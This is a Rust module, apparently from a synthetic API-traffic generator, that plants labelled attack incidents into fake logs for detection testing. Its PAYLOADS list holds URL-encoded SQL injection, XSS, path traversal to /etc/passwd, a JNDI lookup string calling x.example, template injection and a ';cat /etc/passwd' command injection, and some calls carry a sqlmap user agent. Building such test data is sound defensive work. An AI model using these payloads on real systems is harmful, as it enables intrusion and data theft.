//! What is planted: incidents, each a burst of calls of one actor, or an endpoint that fails for everybody.

use super::super::prng::{Prng, mix2};
use super::call::{Call, spread};
use super::services::{
    CONTENT, ENDPOINTS, EXPORT, ORDER, PAY_NEW, PRODUCT, PRODUCTS, Role, SEARCH, TOKEN,
};
use super::users::{User, Users, address};

/// What kind of incident.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Kind {
    /// Names and passwords of another breach, tried one after the other.
    CredentialStuffing,
    /// A user counts through the orders of others.
    Enumeration,
    /// A program fetches the whole catalogue.
    Scraper,
    /// Payloads for a database, a shell, a template in parameters.
    InjectionProbe,
    /// A user takes far more bytes out than ever.
    Exfiltration,
    /// A user calls what that user never calls, with another agent.
    NewEndpoint,
    /// An endpoint fails, for everybody, for ten minutes.
    ErrorBurst,
}

impl Kind {
    /// Share of the attacks' rows in a hundred, rows of one incident, median milliseconds between two calls.
    const PLANTED: [(Self, u64, u64, u64); 6] = [
        (Self::CredentialStuffing, 28, 400, 350),
        (Self::Enumeration, 20, 300, 500),
        (Self::Scraper, 28, 800, 120),
        (Self::InjectionProbe, 12, 120, 900),
        (Self::Exfiltration, 8, 60, 6_000),
        (Self::NewEndpoint, 4, 15, 20_000),
    ];

    pub(super) const fn name(self) -> &'static str {
        match self {
            Self::CredentialStuffing => "credential_stuffing",
            Self::Enumeration => "enumeration",
            Self::Scraper => "scraper",
            Self::InjectionProbe => "injection_probe",
            Self::Exfiltration => "exfiltration",
            Self::NewEndpoint => "new_endpoint",
            Self::ErrorBurst => "error_burst",
        }
    }
}

/// An incident, and what of it has been written.
#[derive(Debug, Clone)]
pub(super) struct Incident {
    pub(super) kind: Kind,
    pub(super) key: u64,
    /// Place of the user, of those that have one.
    user: Option<usize>,
    pub(super) client_ip: String,
    /// The endpoint that it is most about.
    pub(super) endpoint: usize,
    /// Calls that it is made of; 0 for a burst of errors, which are other people's calls.
    pub(super) rows: u64,
    gap_ms: u64,
    /// Milliseconds of its first and last call; of a burst, planned.
    pub(super) begin_ms: i64,
    pub(super) end_ms: i64,
    pub(super) written: u64,
}

/// The longest that a burst of errors lasts.
const BURST_MS: i64 = 600_000;

/// Payloads as scanners send them, in a URL.
const PAYLOADS: [&str; 8] = [
    "%27%20OR%201%3D1--",
    "1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
    "%7B%7B7*7%7D%7D",
    "%3Bcat%20%2Fetc%2Fpasswd",
    "1%27%3B%20DROP%20TABLE%20orders%3B--",
];

/// The incidents of a day: `rows` calls in all, and one burst of errors when there are any.
pub(super) fn plan(
    users: &Users,
    begin_ms: i64,
    day_ms: i64,
    rows: u64,
    key: u64,
) -> Vec<Incident> {
    let mut planned = Vec::new();
    let mut left = rows;
    for (place, (kind, percent, size, gap_ms)) in Kind::PLANTED.into_iter().enumerate() {
        // The last kind takes what rounding left.
        let is_last = place + 1 == Kind::PLANTED.len();
        let mut share = if is_last { left } else { rows * percent / 100 };
        left -= share;
        while share > 0 {
            // No incident of one or two calls: nobody could tell it.
            let size = if share < 2 * size { share } else { size };
            share -= size;
            let key = mix2(key, planned.len() as u64);
            planned.push(one(kind, users, begin_ms, day_ms, size, gap_ms, key));
        }
    }
    if rows > 0 {
        let mut rng = Prng::new(mix2(key, 0x6275_7273));
        let start = begin_ms + 9 * 3_600_000 + below(&mut rng, 8 * 3_600_000);
        planned.push(Incident {
            kind: Kind::ErrorBurst,
            key: 0,
            user: None,
            client_ip: String::new(),
            endpoint: [PRODUCT, SEARCH, PRODUCTS][rng.index(3)],
            rows: 0,
            gap_ms: 0,
            begin_ms: start,
            end_ms: start + BURST_MS,
            written: 0,
        });
    }
    planned
}

fn below(rng: &mut Prng, bound_ms: i64) -> i64 {
    i64::try_from(rng.below(bound_ms.unsigned_abs())).unwrap_or_default()
}

fn one(
    kind: Kind,
    users: &Users,
    begin_ms: i64,
    day_ms: i64,
    rows: u64,
    gap_ms: u64,
    key: u64,
) -> Incident {
    let mut rng = Prng::new(key);
    let role = match kind {
        Kind::Enumeration => Some(Role::Customer),
        Kind::Exfiltration => Some(Role::Author),
        Kind::NewEndpoint => Some(Role::Staff),
        _ => None,
    };
    let user = role.and_then(|role| {
        let of_role = |at: &usize| users.all[*at].role == role;
        let places: Vec<usize> = (0..users.all.len()).filter(of_role).collect();
        places.get(rng.index(places.len())).copied()
    });
    let client_ip = match user {
        // An attacker who has somebody's password does not sit in that one's home.
        Some(_) if kind != Kind::Exfiltration => address(&mut rng),
        Some(at) => users.all[at].addresses[0].clone(),
        None => address(&mut rng),
    };
    // The longest that all gaps can take, so that it ends before the day does.
    let length = i64::try_from(rows.saturating_mul(gap_ms).saturating_mul(4)).unwrap_or(day_ms);
    let start = begin_ms + below(&mut rng, (day_ms - length.min(day_ms - 1)).max(1));
    Incident {
        kind,
        key,
        user,
        client_ip,
        endpoint: match kind {
            Kind::CredentialStuffing => TOKEN,
            Kind::Enumeration => ORDER,
            Kind::Scraper => PRODUCT,
            Kind::InjectionProbe => SEARCH,
            Kind::Exfiltration => CONTENT,
            Kind::NewEndpoint | Kind::ErrorBurst => EXPORT,
        },
        rows,
        gap_ms,
        begin_ms: start,
        end_ms: start,
        written: 0,
    }
}

impl Incident {
    /// Milliseconds to the next call.
    pub(super) fn gap_ms(&self, rng: &mut Prng) -> i64 {
        let most = self.gap_ms.saturating_mul(4);
        i64::try_from(spread(rng, self.gap_ms).min(most)).unwrap_or_default()
    }

    /// The user whose name it carries.
    pub(super) fn user<'u>(&self, users: &'u Users) -> Option<&'u User> {
        self.user.and_then(|at| users.all.get(at))
    }

    /// Its `n`th call.
    pub(super) fn call(&self, users: &Users, n: u64, time_ms: i64, rng: &mut Prng) -> Call {
        let user = self.user(users);
        let endpoint = match self.kind {
            Kind::Scraper if n.is_multiple_of(21) => PRODUCTS,
            Kind::InjectionProbe if n % 4 == 3 => PAY_NEW,
            _ => self.endpoint,
        };
        let mut call = Call::of(&ENDPOINTS[endpoint], user, time_ms, rng);
        call.client_ip.clone_from(&self.client_ip);
        if let Some(user) = user {
            call.user.clone_from(&user.name);
            call.session = format!("{:016x}{:016x}", self.key, mix2(self.key, 1));
            user.agent.clone_into(&mut call.user_agent);
        }
        self.dress(&mut call, endpoint, users, n, rng);
        call
    }

    fn dress(&self, call: &mut Call, endpoint: usize, users: &Users, n: u64, rng: &mut Prng) {
        match self.kind {
            Kind::CredentialStuffing => {
                let name = &users.all[rng.index(users.all.len())].name;
                call.body = format!(r#"{{"grant_type":"password","username":"{name}"}}"#);
                "python-requests/2.31.0".clone_into(&mut call.user_agent);
                if !rng.chance(2) {
                    call.fail(401, rng);
                }
            }
            Kind::Enumeration => {
                call.path = format!("/v2/orders/{}", 100_000 + self.key % 700_000 + n);
                match rng.below(10) {
                    0..6 => call.fail(404, rng),
                    6..8 => call.fail(403, rng),
                    _ => {}
                }
            }
            Kind::Scraper => {
                if endpoint == PRODUCTS {
                    call.query = format!("page={}&limit=20", n / 21 + 1);
                } else {
                    call.path = format!("/v2/products/{}", 1000 + n - n / 21);
                }
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/119.0.0.0 Safari/537.36"
                    .clone_into(&mut call.user_agent);
                if rng.chance(3) {
                    call.fail(429, rng);
                }
            }
            Kind::InjectionProbe => {
                let payload = PAYLOADS[rng.index(PAYLOADS.len())];
                if endpoint == SEARCH {
                    call.query = format!("q={payload}&sort=price");
                } else {
                    call.body = format!(r#"{{"order":"{payload}","method":"card"}}"#);
                }
                "sqlmap/1.8.2#stable (https://sqlmap.org)".clone_into(&mut call.user_agent);
                match rng.below(10) {
                    0..5 => call.fail(400, rng),
                    5..8 => call.fail(500, rng),
                    8 => call.fail(403, rng),
                    _ => {}
                }
            }
            Kind::Exfiltration => call.response_bytes = 20_000_000 + rng.below(180_000_000),
            Kind::NewEndpoint => {
                "curl/8.5.0".clone_into(&mut call.user_agent);
                call.path = format!("/v1/users/{}/export", 100_000 + rng.below(900_000));
                if rng.chance(25) {
                    call.fail(403, rng);
                }
            }
            Kind::ErrorBurst => {}
        }
        call.request_bytes += call.body.len() as u64;
    }

    /// What a burst makes of somebody's call.
    pub(super) fn strikes(&self, endpoint: usize, call: &mut Call, rng: &mut Prng) -> bool {
        let hit = self.kind == Kind::ErrorBurst
            && self.endpoint == endpoint
            && (self.begin_ms..self.end_ms).contains(&call.time_ms)
            && rng.chance(85);
        if hit {
            call.fail(503, rng);
            call.latency_ms = 2_000 + rng.below(8_000);
        }
        hit
    }
}
